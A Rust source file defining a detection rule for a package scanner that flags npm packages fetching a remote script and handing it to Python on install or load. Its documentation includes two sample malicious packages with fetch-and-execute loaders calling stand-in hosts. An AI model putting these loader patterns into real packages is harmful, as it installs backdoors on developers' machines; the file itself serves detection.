//! # A fetched program is given to Python
//!
//! A file that was downloaded is started with Python, in code that runs by itself.
//!
//! ## Why it matters
//!
//! Back doors for developers' machines are written in Python and fetched by a few lines of JavaScript, which
//! alone are in the package.
//!
//! ## Known benign uses
//!
//! Building native code needs Python, but never a script from elsewhere.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node get.cjs"}}
//! == get.cjs
//! const { execFileSync: run } = require("node:child_process");
//! const file = require("node:os").tmpdir() + "/u.py";
//! run("curl", ["-sSo", file, "https://fonts.invalid/u.py"]);
//! run("python3", [file]); //~ here
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const fs = require("fs"), request = require("request");
//! const home = require("os").homedir();
//! request.get("http://198.51.100.20:1224/client/5", (error, reply, body) => {
//!   fs.writeFileSync(home + "/.npl", body);
//!   require("child_process").exec(`python3 "${home}/.npl"`); //~ here
//! });
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"install": "node build.js"}}
//! == build.js
//! const { execFileSync } = require("child_process");
//! execFileSync("python3", ["--version"]);
//! execFileSync("python3", [__dirname + "/tools/generate.py"]);
//! ```
//!
//! ## References
//!
//! - Unit 42: Contagious Interview, InvisibleFerret

use crate::prelude::*;

/// A fetched program is given to Python.
pub struct PythonProgramFetched;

impl Rule for PythonProgramFetched {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "python-program-fetched",
            title: "A fetched program is given to Python",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1059.006",
            covers: &["python-download"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        for fetched in facts.fetched() {
            let is_python = matches!(&fetched.usage, FetchedUse::Interpreted(name) if name.starts_with("py"));
            let is_unwatched = fetched.trigger.runs_unwatched();
            if is_python && is_unwatched {
                found.path(
                    fetched.trigger,
                    &[
                        (fetched.fetched.clone(), "fetches a program"),
                        (fetched.used.clone(), "gives it to Python"),
                    ],
                );
            }
        }
    }
}
